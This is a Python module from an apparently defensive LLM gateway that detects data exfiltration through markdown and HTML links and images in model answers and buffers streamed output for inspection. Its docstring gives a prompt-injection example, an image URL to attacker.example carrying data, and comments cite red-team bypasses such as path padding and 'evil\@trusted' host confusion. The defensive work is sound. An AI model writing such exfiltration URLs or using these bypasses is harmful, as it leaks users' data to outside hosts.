"""Inspecting a model's answer (OWASP LLM02, LLM06): data going out through links, and a guard
that inspects a streamed answer with a bounded hold-back window.

An answer rendered as markdown or HTML can leak data without anyone clicking: a client that
shows `![x](https://attacker.example/p.png?q=<data>)` fetches the image and so sends the data
(the attack is in the answer because an injection in a document told the model to write it).
exfil_links() finds images and links whose URL carries data to a host that is not the
provider's: a long encoded run (base64, hex), several percent-encoded bytes, a long query, or a
secret or personal value the DLP scanner finds inside the decoded URL.

TextGuard holds back the end of a streamed text that could still grow into a value - the last,
unfinished word and the short digit groups before it (so a card or phone number written in
groups stays together), at most `hold` characters - and an unfinished URL or
markdown link (up to `max_hold`), so a value split across chunks is inspected whole before any of
it goes out, while ordinary prose is held back by one word only. A URL still unfinished after
`max_hold` characters is released as an exfiltration finding (redacted, cut or logged by the
policy): its data would otherwise arrive after its host had gone out uninspected.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from collections.abc import Iterable
from urllib.parse import unquote
from urllib.parse import urlsplit

from shadowgate.dlp import Finding
from shadowgate.enforce.hosts import plain_url_host

EXFIL_IMAGE = "exfil_image"  # fetched as soon as the answer is shown: zero-click
EXFIL_LINK = "exfil_link"  # sent when someone follows it
EXFIL_TYPES = (EXFIL_IMAGE, EXFIL_LINK)
REDACTED_URL = "[URL_REMOVED]"

_URL = r"https?://[^\s<>\"'()\[\]]+"
# ![alt](url "title"), [text](url), reference definitions [id]: url
_MD_IMAGE = re.compile(r"!\[[^\]\n]{0,1000}\]\(\s*<?(" + _URL + ")")
_MD_LINK = re.compile(
    r"(?<!!)\[[^\]\n]{0,1000}\]\(\s*<?(" + _URL + ")" + r"|^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(" + _URL + ")", re.M
)
_HTML_IMAGE = re.compile(
    r"<(?:img|image|source|video|audio|iframe|embed|object|input|link|script)\b[^>]{0,2000}?\b(?:src|srcset|data|href|poster)\s*=\s*[\"']?("
    + _URL
    + ")",
    re.I,
)
_HTML_LINK = re.compile(r"<a\b[^>]{0,2000}?\bhref\s*=\s*[\"']?(" + _URL + ")", re.I)
_BARE = re.compile(_URL)
_ENCODED_RUN = re.compile(r"[A-Za-z0-9+/_-]{32,}={0,2}|(?:[0-9a-fA-F]{2}){16,}")
_PERCENT = re.compile(r"%[0-9A-Fa-f]{2}")
LONG_QUERY = 200  # characters of query and fragment that are data whatever they look like

# Where an unfinished URL or markup starts: held back until it ends (or max_hold passes).
_OPEN = re.compile(r"https?://[^\s<>\"'()\[\]]*$|!?\[[^\]\n]{0,1000}(?:\]\(?)?$|<(?:img|a)\b[^>]*$", re.I)


_ENDS_A_WORD = re.compile(r"[\s<>\"'()\[\]]")
_LAST_WORD = re.compile(r"[^\s<>\"'()\[\]]+$")  # the characters a URL at the end could still take
_URL_START = re.compile(r"https?://", re.I)


def overlong_url(text: str, max_hold: int) -> Finding | None:
    """An unfinished URL at the end of `text` that began more than `max_hold` characters ago,
    as an exfiltration finding (an image after `](`, else a link), or None.

    Its start must go out before its end is seen, and what ends it (a query carrying data)
    would then be inspected without the host it goes to: so a URL that long counts as a leak,
    whatever it turns out to carry (padding its path once let the data after it through)."""
    word = _LAST_WORD.search(text)
    if word is None or len(word.group()) <= max_hold:
        return None
    start = _URL_START.search(text, word.start())
    if start is None or len(text) - start.start() <= max_hold:
        return None
    kind = EXFIL_IMAGE if text[: start.start()].rstrip(" <").endswith("](") else EXFIL_LINK
    return Finding(start.start(), len(text), kind, "exfil", "exfil")


# A word that may be one group of a value written in groups: a card or phone number, an IBAN, a
# national id ("5500 0055 5555 5559", "+41 44 668 18 00", "CH93 0076 2011", "AB 12 34 56 C").
_VALUE_GROUP = re.compile(r"[+(]?(?=[0-9A-Z()./-]*\d)[0-9A-Z][0-9A-Z()./-]{0,7}[,;:]?|[A-Z]{1,2}")


def tail_start(text: str, cap: int) -> int:
    """Where the part of `text` that could still grow into a value starts: the unfinished last
    word and the value groups (_VALUE_GROUP) before it, at most `cap` characters."""
    limit = max(0, len(text) - cap)
    i = len(text)
    while i > limit and not text[i - 1].isspace():  # the last word, unless the text ends a word
        i -= 1
    while i > limit:
        k = i
        while k > limit and text[k - 1].isspace():
            k -= 1
        j = k
        while j > limit and not text[j - 1].isspace():
            j -= 1
        if j == k or not _VALUE_GROUP.fullmatch(text[j:k]):
            break
        i = j
    return max(i, limit)


def _carries_data(url: str, has_secret: Callable[[str], bool] | None) -> bool:
    parts = urlsplit(url)
    tail = parts.query + ("#" + parts.fragment if parts.fragment else "")
    if len(tail) >= LONG_QUERY:
        return True
    if any(_looks_encoded(m.group()) for m in _ENCODED_RUN.finditer(tail)):
        return True
    if _path_carries_data(parts.path, (parts.hostname or "").lower()):
        return True
    if len(_PERCENT.findall(tail)) >= 3:
        return True
    return has_secret is not None and bool(tail) and has_secret(unquote(tail.replace("+", " ")))


def _path_carries_data(path: str, host: str) -> bool:
    """Whether a URL's path holds an encoded run. A git object id or a SHA-256 (40 or 64 hex
    digits) as a whole segment is a reference (a commit, a blob, a package's hash), and the paths
    of reference sites (REFERENCE_HOSTS: code hosts, package indexes, documentation) carry no data
    their owners could read back: their queries are still judged, as everyone's are (a
    redirector's `?url=` carries data on) (round-6b G11)."""
    if host in REFERENCE_HOSTS or any(host.endswith("." + h) for h in REFERENCE_HOSTS):
        return False
    segments = path.split("/")
    hashes = [seg for seg in segments if len(seg) in (40, 64) and _HEX.fullmatch(seg)]
    if len(hashes) > 1:
        return True  # one commit is a reference; several hash-sized pieces are data (red-team F121)
    kept = "/".join(seg for seg in segments if seg not in hashes)
    return any(_looks_encoded(m.group()) for m in _ENCODED_RUN.finditer(kept))


_HEX = re.compile(r"[0-9a-f]+")
_UNBROKEN = re.compile(r"[0-9]{32}|[a-z]{32}|[A-Z]{32}")
# Sites whose paths name documents, code and packages (ids and hashes that look encoded) and
# whose access logs an answer's author cannot read: a link there carries nothing out by its path.
REFERENCE_HOSTS = frozenset(
    {"github.com", "gitlab.com", "bitbucket.org", "stackoverflow.com", "stackexchange.com", "superuser.com",
     "serverfault.com", "pypi.org", "files.pythonhosted.org", "npmjs.com", "crates.io", "pkg.go.dev",
     "docs.google.com", "drive.google.com", "developer.mozilla.org", "learn.microsoft.com", "docs.python.org",
     "wikipedia.org", "arxiv.org", "doi.org",
     # Gemini's search grounding cites through Google's own redirect: an opaque token it minted
     "vertexaisearch.cloud.google.com"}
)  # fmt: skip


def _looks_encoded(run: str) -> bool:
    """A run of URL-safe characters that is data, not a slug: mixed case (base64), or digits and
    letters interleaved (hex, base32). An id beside words (`/questions/231767/what-does-...`)
    mixes them once or twice, not every few characters (round-6b G11)."""
    digits = sum(c.isdigit() for c in run)
    upper = sum(c.isupper() for c in run)
    lower = sum(c.islower() for c in run)
    if upper >= 4 and lower >= 4:
        return True
    if _UNBROKEN.search(run):
        return True  # 32 digits, or letters of one case, without a break: no id or word is that (F128)
    if digits < 4 or upper + lower < 4:
        return False
    kinds = [c.isdigit() for c in run if c.isalnum()]
    switches = sum(a != b for a, b in zip(kinds, kinds[1:], strict=False))
    return switches >= max(8, len(run) // 8)


def exfil_links(
    text: str,
    trusted: Callable[[str], bool],
    has_secret: Callable[[str], bool] | None = None,
    bare: bool = True,
) -> list[Finding]:
    """Findings (type EXFIL_IMAGE or EXFIL_LINK, the span is the URL) for images and links whose
    URL carries data to a host `trusted` does not accept. bare: plain URLs count as links too
    (tool-call arguments, answers a client turns into links)."""
    found: dict[int, Finding] = {}
    patterns: Iterable[tuple[re.Pattern[str], str]] = (
        (_MD_IMAGE, EXFIL_IMAGE),
        (_HTML_IMAGE, EXFIL_IMAGE),
        (_MD_LINK, EXFIL_LINK),
        (_HTML_LINK, EXFIL_LINK),
        *(((_BARE, EXFIL_LINK),) if bare else ()),
    )
    if "http" not in text.lower():
        return []
    for pattern, kind in patterns:
        for m in pattern.finditer(text):
            group = next(g for g in range(1, (m.lastindex or 0) + 1) if m.group(g)) if m.lastindex else 0
            start, end = m.start(group), m.end(group)
            if start in found:
                continue
            url = m.group(group)
            # A URL parsers read as different hosts (`https://evil\@trusted/`: a browser goes to
            # evil) is no trusted host's (red-team F36).
            host = plain_url_host(url)
            if (host is not None and trusted(host)) or not _carries_data(url, has_secret):
                continue
            found[start] = Finding(start, end, kind, "exfil", "exfil")
    return sorted(found.values(), key=lambda f: f.start)


class TextGuard:
    """One streamed text (a choice, a content block) passing through inspection.

    feed(piece) returns the text that may go out now and the findings in it; what could still
    grow into a value (tail_start, at most `hold` characters), a finding that reaches into it and
    an unfinished URL (up to `max_hold` characters) stay held, inspected again with what follows. `inspect(text)` returns findings;
    it sees the held text with up to `context` characters already sent before it, so a value
    whose start went out (longer than the window) is still counted. finish() releases the rest.
    Redaction is the caller's: `rewrite(text, findings)`.
    """

    def __init__(
        self,
        inspect: Callable[[str], list[Finding]],
        rewrite: Callable[[str, list[Finding]], str],
        hold: int = 256,
        max_hold: int = 4096,
        context: int = 96,
    ) -> None:
        self._inspect = inspect
        self._rewrite = rewrite
        self._hold = hold
        self._max_hold = max_hold
        self._context_size = context
        self._held = ""
        self._context = ""

    @property
    def held(self) -> int:
        return len(self._held)

    def feed(self, piece: str, final: bool = False) -> tuple[str, list[Finding]]:
        buf = self._held + piece
        if not buf:
            return "", []
        if not final and len(buf) <= self._hold and not _ENDS_A_WORD.search(piece):
            # The piece only lengthens the unfinished last word (or URL): nothing more could go
            # out now, so the inspection waits for the text that ends it.
            self._held = buf
            return "", []
        context = self._context
        off = len(context)
        findings = [f for f in self._inspect(context + buf) if f.end > off]
        cut = len(buf) if final else tail_start(buf, self._hold)
        if not final:
            opened = _OPEN.search(buf, max(0, len(buf) - self._max_hold))
            if opened is not None:
                cut = min(cut, opened.start())
            elif (long := overlong_url(context + buf, self._max_hold)) is not None and long.start >= off:
                # Released now as a leak (rewritten by the caller's policy), its start (the host) with it.
                findings = [f for f in findings if f.start < long.start] + [long]
                cut = len(buf)
        for f in findings:
            if f.end - off > cut:
                cut = min(cut, max(f.start - off, 0))
        out_findings = [
            Finding(max(f.start - off, 0), f.end - off, f.type, f.detector, f.kind)
            for f in findings
            if f.end - off <= cut
        ]
        out = self._rewrite(buf[:cut], out_findings) if out_findings else buf[:cut]
        self._held = buf[cut:]
        self._context = (context + out)[-self._context_size :]
        return out, out_findings

    def finish(self) -> tuple[str, list[Finding]]:
        return self.feed("", final=True)


def trusted_links(text: str, trusted: Callable[[str], bool]) -> list[Finding]:
    """The spans of the URLs in `text` whose host `trusted` accepts (the provider's own)."""
    if "http" not in text.lower():
        return []
    spans = []
    for m in _BARE.finditer(text):
        host = plain_url_host(m.group())
        if host is not None and trusted(host):
            spans.append(Finding(m.start(), m.end(), "provider_link", "link", "link"))
    return spans


def outside_links(findings: list[Finding], links: list[Finding]) -> list[Finding]:
    """The findings not inside an exfiltration link. The DLP scanner decodes encoded runs
    (dlp/encoded.py), so it also finds the values a link carries in its query: those belong to the
    link, which is counted (and redacted or blocked) once."""
    return [f for f in findings if not any(link.start <= f.start and f.end <= link.end for link in links)]
